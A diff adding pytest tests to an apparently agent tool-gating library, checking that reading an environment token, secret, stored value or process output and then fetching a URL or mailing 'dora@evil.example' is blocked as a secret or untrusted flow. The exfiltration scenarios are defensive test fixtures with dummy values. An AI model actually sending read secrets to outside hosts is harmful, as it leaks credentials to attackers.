@@ -9,7 +9,8 @@ from typing import Any
 import pytest
 
 from guard.flow_gates import MAILS, SENT, mail_gate, send
-from licet import Backends, Gate, Refused, Result, Session
+from guard.gates import gate
+from licet import Backends, Context, Gate, Refused, Result, Session, tool
 from licet.backends.approvals.terminal import MemoryApprover
 from licet.core.flow.labels import leaves
 from licet.core.ledger.entry import FlowFact, read_entry
@@ -253,6 +254,93 @@ def test_sources_label_a_result_by_what_the_handles_read(tmp_path: Path) -> None
     other = {"results": results, "sources": [{"use": "fs:read:/srv/other", "label": "authored"}]}
     for flow, reason in ((authored, "ALLOWED"), (other, "FLOW_ORIGIN")):
         assert run(mail_gate(tmp_path, flow=flow), story, tainted="yes") == ["ALLOWED", reason]
+
+
+@tool(needs=["env:read:API_TOKEN"], effect="read_only", sandbox="native")
+async def show_token(ctx: Context) -> str:
+    """Show a token."""
+    return ctx.env.get("API_TOKEN") or ""
+
+
+@tool(needs=["secret:read:key"], effect="read_only", sandbox="native")
+async def show_key(ctx: Context) -> str:
+    """Use a key."""
+    return str(await ctx.secrets.get("key"))
+
+
+@tool(needs=["storage:read:tool-private"], effect="read_only", sandbox="native")
+async def show_note(ctx: Context) -> str:
+    """Show what was kept."""
+    return str(await ctx.kv.get("note"))
+
+
+@tool(needs=["process:exec:cat"], effect="read_only", sandbox="native")
+async def show_program(ctx: Context) -> str:
+    """Show what a program says."""
+    return str(await ctx.process.spawn("cat"))
+
+
+@tool(needs=["network:read:*"], effect="read_only", sandbox="native")
+async def fetch(url: str) -> str:
+    """Fetch a page."""
+    return url
+
+
+READERS = (show_token, show_key, show_note, show_program)
+
+
+def reader_gate(folder: Path, flow: dict[str, Any]) -> Gate:
+    """A gate of tools that read from something else than files."""
+    backends = Backends.memory(environ={"API_TOKEN": "tok-123456"}, secrets={"key": "k-123456"}, processes={"cat": "x"})
+    capabilities = {
+        "tools": {**{one.name: {} for one in READERS}, "fetch": {"args": {"url": {"flow": "link"}}}},
+        "native": [*(one.name for one in READERS), "fetch"],
+        "env": ["API_TOKEN"],
+        "secrets": ["key"],
+        "grants": ["network:read:*", "storage:read:tool-private", "process:exec:cat"],
+    }
+    top = {"flow": {"preset": "guarded", **flow}}
+    return gate(folder, *READERS, fetch, backends=backends, top=top, **capabilities)
+
+
+@pytest.mark.parametrize(
+    ("rule", "name"),
+    [
+        ("env:read:API_TOKEN", "show_token"),
+        ("secret:read:key", "show_key"),
+        ("storage:read:tool-private", "show_note"),
+        ("process:exec:cat", "show_program"),
+    ],
+)
+def test_a_secret_source_of_any_kind_is_noticed(tmp_path: Path, rule: str, name: str) -> None:
+    async def story(session: Session) -> list[str]:
+        read = await session.call(name)
+        return [read.reason, (await session.call("fetch", {"url": "https://else.example/"})).reason]
+
+    for stated, reason in ((rule, "FLOW_SECRET"), ("secret:read:other", "ALLOWED")):
+        at = reader_gate(tmp_path, {"secrets": [{"from": stated, "readers": []}]})
+        assert run(at, story, task="open https://else.example/") == ["ALLOWED", reason]
+
+
+def test_what_a_call_read_from_the_environment_is_data_that_a_source_can_label(tmp_path: Path) -> None:
+    async def story(session: Session) -> list[str]:
+        await session.call("show_token")
+        return [(await session.call("fetch", {"url": "https://else.example/"})).reason]
+
+    for rule, reason in (("env:read:API_TOKEN", "ALLOWED"), ("env:read:OTHER", "FLOW_ORIGIN")):
+        at = reader_gate(tmp_path, {"sources": [{"use": rule, "label": "trusted"}]})
+        assert run(at, story) == [reason]
+
+
+def test_a_tool_that_is_called_untrusted_is_so_whatever_it_reads(tmp_path: Path) -> None:
+    async def story(session: Session) -> list[str]:
+        await session.call("read_file", {"path": f"{tmp_path}/note.txt"})
+        return [await send(session, "dora@evil.example")]
+
+    sources = [{"use": f"fs:read:{tmp_path}", "label": "trusted"}]
+    for labels, reason in (({}, "ALLOWED"), ({"read_file": "untrusted"}, "FLOW_ORIGIN")):
+        flow = {"results": {"send_mail": "ack", **labels}, "sources": sources}
+        assert run(mail_gate(tmp_path, flow=flow), story, tainted="yes") == [reason]
 
 
 def test_a_reload_without_flow_makes_earlier_values_unknown_and_taints(tmp_path: Path) -> None:
